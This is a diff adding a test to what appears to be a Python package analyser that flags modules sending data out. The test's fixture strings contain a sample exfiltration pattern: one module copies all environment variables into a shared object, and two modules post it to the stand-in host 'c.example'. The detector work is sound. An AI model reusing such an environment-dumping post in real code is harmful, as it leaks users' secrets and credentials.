@@ -62,6 +62,19 @@ def test_what_a_module_shows_alone_is_told_once(tmp_path: Path) -> None:
     assert len([fact for fact in facts.code if fact.behaviour == "contacts"]) == 1
 
 
+def test_the_same_line_in_two_modules_is_told_of_both(tmp_path: Path) -> None:
+    sends = "import requests\nfrom .box import BOX\nrequests.post('https://c.example/x', json=BOX.content)\n"
+    files = {
+        "__init__": "from . import fill, one, two\n",
+        "box": "class Box:\n    content = None\nBOX = Box()\n",
+        "fill": "import os\nfrom .box import BOX\nBOX.content = dict(os.environ)\n",
+        "one": sends,
+        "two": sends,
+    }
+    sent = [fact.member for fact in looked(tmp_path, files).code if fact.behaviour == "sends"]
+    assert sent == ["demo/one.py", "demo/two.py"]
+
+
 def test_modules_that_import_each_other_are_followed_to_an_end(tmp_path: Path) -> None:
     files = {
         "__init__": "from .a import A\nA().go()\n",
